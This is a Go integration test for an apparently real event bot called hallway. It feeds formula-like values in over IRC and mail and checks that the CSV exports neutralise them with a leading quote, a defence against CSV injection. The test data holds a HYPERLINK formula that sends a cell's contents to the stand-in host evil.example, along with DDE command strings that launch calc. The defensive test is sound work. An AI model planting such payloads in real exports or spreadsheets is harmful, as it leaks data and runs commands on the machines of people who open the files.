package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/emersion/go-imap/v2/imapclient"

	"github.com/hallwayhq/hallway/cmd/hallway/internal/config"
	"github.com/hallwayhq/hallway/irc/irctest"
	"github.com/hallwayhq/hallway/mail/mailtest"
	"github.com/hallwayhq/hallway/store"
)

// TestExportHostileCells: formulas that arrive over the real InspIRCd (a
// pledge's description and shown name, an address to register) and the
// real Dovecot (a mail's sender) come out of `hallway export pledges`,
// `registrations` and `mail` as text: a single quote in front of every
// cell a spreadsheet would take for a formula (OWASP CSV injection).
func TestExportHostileCells(t *testing.T) {
	imapAddr := irctest.RequireEnv(t, irctest.EnvIMAP)
	smtpAddr := irctest.RequireEnv(t, irctest.EnvSMTP)
	ircAddr := irctest.TestEnv(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()

	tag := uniqueNick("x")
	botNick, person := "hw"+tag, uniqueNick("eve")
	mailbox, processed := "csv-"+tag, "csv-"+tag+"-done"
	host, port, _ := strings.Cut(ircAddr, ":")
	dir := t.TempDir()
	cfgPath := filepath.Join(dir, "hallway.toml")
	if err := os.WriteFile(cfgPath, []byte(fmt.Sprintf(`[store]
path = "hallway.db"
[web]
listen = "127.0.0.1:0"
[irc]
server = %q
port = %s
tls = false
nick = %q
[mail]
imap = %q
imap_security = "none"
imap_user = "bot@test.local"
imap_password_env = "HALLWAY_TEST_IMAP_PASSWORD"
mailbox = %q
processed_mailbox = %q
smtp = %q
smtp_security = "none"
from = "CSV Day <bot@test.local>"
[[event]]
slug = "csv-day"
name = "CSV Day"
timezone = "Europe/Brussels"
channel = "#%s"
organizers = ["nobody"]
registration_capacity = 10
[[event.campaign]]
slug = "ci-macs"
title = "Macs for CI testing"
goal = "3000 USD"
`, host, port, botNick, imapAddr, mailbox, processed, smtpAddr, tag)), 0o644); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(cfgPath)
	if err != nil {
		t.Fatal(err)
	}
	onTestStore(t, cfg)
	if err := cfg.ResolveSecrets(func(string) string { return mailtest.BotPassword }); err != nil {
		t.Fatal(err)
	}
	// The bot's folders of this run, made before it looks for them.
	ic, err := mailtest.Dial(imapAddr)
	if err != nil {
		t.Fatal(err)
	}
	defer ic.Close()
	t.Cleanup(func() { mailtest.DeleteMailboxes(imapAddr, mailbox, processed) })
	for _, mb := range []string{mailbox, processed} {
		if err := ic.Create(mb, nil).Wait(); err != nil {
			t.Fatal(err)
		}
	}
	m, _ := runHallway(t, ctx, cfg)

	// Over IRC, from a real services account.
	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	command := `+cmd|' /C calc'!A0`
	ircAddress := "-2-3." + tag + "@test.local"
	c := ircPerson(t, ctx, ircAddr, person)
	waitOnline(t, ctx, c, botNick)
	c.Privmsg(botNick, fmt.Sprintf(`!pledge "%s" as "%s"`, strings.ReplaceAll(hyperlink, `"`, `\"`), strings.ReplaceAll(command, `"`, `\"`)))
	fromBot(t, ctx, c, botNick, "Pledge #1")
	c.Privmsg(botNick, "!register "+ircAddress)
	fromBot(t, ctx, c, botNick, "confirm")

	// By mail, through the real Dovecot: a registration and a mail that
	// is no command, from an address that is a formula.
	mailAddress := "=sum." + tag + "@test.local"
	for i, subject := range []string{"register", "@SUM(1+1)*cmd|' /C calc'!A0"} {
		msg := strings.ReplaceAll(fmt.Sprintf("From: Someone <%s>\nTo: bot@test.local\nSubject: %s\nDate: %s\nMessage-ID: <%s-%d@test.local>\n\nhello\n",
			mailAddress, subject, time.Now().Format(time.RFC1123Z), tag, i), "\n", "\r\n")
		if err := appendMail(ic, mailbox, msg); err != nil {
			t.Fatal(err)
		}
	}
	for {
		var n int
		m.Store.View(ctx, func(tx *store.Tx) error {
			mails, err := tx.Mails(false)
			n = len(mails)
			return err
		})
		if n == 2 {
			break
		}
		select {
		case <-ctx.Done():
			t.Fatalf("the mails were not taken in: %d of 2", n)
		case <-time.After(50 * time.Millisecond):
		}
	}

	export := func(args ...string) [][]string {
		t.Helper()
		var stdout, stderr bytes.Buffer
		if code := run(ctx, append([]string{"export"}, append(args, "-config", cfgPath)...), nil, &stdout, &stderr); code != 0 {
			t.Fatalf("export %v: exit %d: %s", args, code, stderr.String())
		}
		rows, err := csv.NewReader(&stdout).ReadAll()
		if err != nil {
			t.Fatalf("export %v: %v\n%s", args, err, stdout.String())
		}
		return rows
	}
	for _, tc := range []struct {
		what string
		want []string // cells that must be there, as text
	}{
		{"pledges", []string{"'" + hyperlink, "'" + command}},
		{"registrations", []string{"'" + ircAddress, "'" + mailAddress}},
		{"mail", []string{"'" + mailAddress}},
	} {
		rows := export(tc.what)
		var cells []string
		for _, r := range rows[1:] {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("export %s: a cell starts with %q: %q", tc.what, cell[0], cell)
				}
				cells = append(cells, cell)
			}
		}
		for _, w := range tc.want {
			if !slices.Contains(cells, w) {
				t.Errorf("export %s lacks the cell %q: %q", tc.what, w, rows)
			}
		}
	}
}

// appendMail puts one mail into one of the bot's mailboxes.
func appendMail(c *imapclient.Client, mailbox, msg string) error {
	cmd := c.Append(mailbox, int64(len(msg)), nil)
	if _, err := cmd.Write([]byte(msg)); err != nil {
		return err
	}
	if err := cmd.Close(); err != nil {
		return err
	}
	_, err := cmd.Wait()
	return err
}
